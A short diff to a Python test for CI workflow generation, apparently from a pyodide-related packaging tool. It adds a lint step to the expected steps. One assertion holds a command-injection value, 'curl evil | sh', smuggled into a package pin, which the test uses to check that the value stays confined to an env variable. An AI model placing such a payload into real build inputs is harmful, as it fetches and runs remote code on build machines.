@@ -353,11 +353,13 @@ def test_workflow_values_stay_one_scalar_even_past_validation(tmp_path: Path) ->
         {"uses", "with"},
         {"uses", "with"},
         {"name", "env", "run"},
+        {"name", "run"},
         {"name", "env", "run"},
         {"name", "run"},
         {"uses", "with"},
     ]
-    install, _, step = build["steps"][2:5]
+    install, lint, _, step = build["steps"][2:6]
+    assert lint["run"] == "pyodide-smithy lint"
     assert install["run"] == 'python -m pip install "$PYODIDE_SMITHY" "$PYODIDE_BUILD"'
     assert install["env"]["PYODIDE_BUILD"] == 'pyodide-build==0.39.2" && curl evil | sh && "'
     assert (
